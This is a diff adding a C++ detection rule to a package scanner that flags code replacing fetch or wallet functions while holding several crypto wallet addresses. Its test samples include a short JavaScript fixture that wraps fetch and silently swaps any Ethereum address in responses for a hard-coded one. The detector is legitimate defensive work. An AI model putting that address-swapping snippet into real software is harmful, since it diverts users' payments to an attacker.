@@ -1,0 +1,94 @@
+#include <set>
+#include <string_view>
+
+#include "rules/conditions.h"
+#include "rules/rule.h"
+
+namespace assay::rules {
+namespace {
+
+bool is_word(char c) {
+  return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
+}
+
+bool is_address(std::string_view word) {
+  if (word.size() == 42 && word.starts_with("0x")) {
+    return word.find_first_not_of("0123456789abcdefABCDEF", 2) == std::string_view::npos;
+  }
+  const bool is_bitcoin =
+      word.size() >= 26 && word.size() <= 62 &&
+      (word.starts_with("bc1") || word.starts_with('1') || word.starts_with('3'));
+  const bool is_tron = word.size() == 34 && word.starts_with('T');
+  if (!is_bitcoin && !is_tron) return false;
+  return word.find_first_of("0OIl") == std::string_view::npos || word.starts_with("bc1");
+}
+
+// Distinct ones, and no more than are needed to tell.
+std::size_t addresses_in(std::string_view text) {
+  std::set<std::string_view> found;
+  for (std::size_t at = 0; at < text.size() && found.size() < 4;) {
+    std::size_t end = at;
+    while (end < text.size() && is_word(text[end])) ++end;
+    if (is_address(text.substr(at, end - at))) found.insert(text.substr(at, end - at));
+    at = end + 1;
+  }
+  return found.size();
+}
+
+void check(const Facts& facts, Findings& findings) {
+  for (const Action& action : facts.actions) {
+    if (action.act != Act::patch_global || !runs_uncalled(action)) continue;
+    const std::string_view text =
+        action.where.layer < 0 ? facts.file(action.where).bytes
+                               : facts.layers[static_cast<std::size_t>(action.where.layer)].text;
+    if (addresses_in(text) < 3) continue;
+    findings.add(
+        action.where,
+        sentence("replaces " + shown(action.target) + " and holds wallet addresses", action),
+        action.steps);
+  }
+}
+
+}  // namespace
+
+extern constinit const Rule hooks_payment_calls = {
+    .id = "hooks-payment-calls",
+    .title = "The package replaces network or wallet functions and knows wallet addresses",
+    .why =
+        "Code that wraps fetch, XMLHttpRequest or a page's wallet and holds a list of "
+        "addresses swaps the address that money goes to.",
+    .harmless_when =
+        "Tracing and mocking libraries wrap the same functions, but hold no "
+        "addresses.",
+    .severity = Severity::critical,
+    .check = check,
+};
+
+#ifdef RULE_SAMPLES
+constexpr Sample samples[] = {
+    {.name = "a module wraps fetch and swaps addresses",
+     .expect = "index.js:6",
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js"}
+==> index.js
+const mine = [
+  "0x0000000000000000000000000000000000000001",
+  "0x0000000000000000000000000000000000000002",
+  "0x0000000000000000000000000000000000000003",
+]; const original = globalThis.fetch;
+globalThis.fetch = async (url, options) => {
+  const answer = await original(url, options);
+  return new Response((await answer.text()).replace(/0x[0-9a-f]{40}/g, mine[0]));
+};
+)"},
+    {.name = "a tracer wraps fetch", .expect = silent, .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js"}
+==> index.js
+const original = globalThis.fetch;
+globalThis.fetch = (url, options) => { console.log(url); return original(url, options); };
+)"},
+};
+extern const std::span<const Sample> hooks_payment_calls_samples = samples;
+#endif
+
+}  // namespace assay::rules
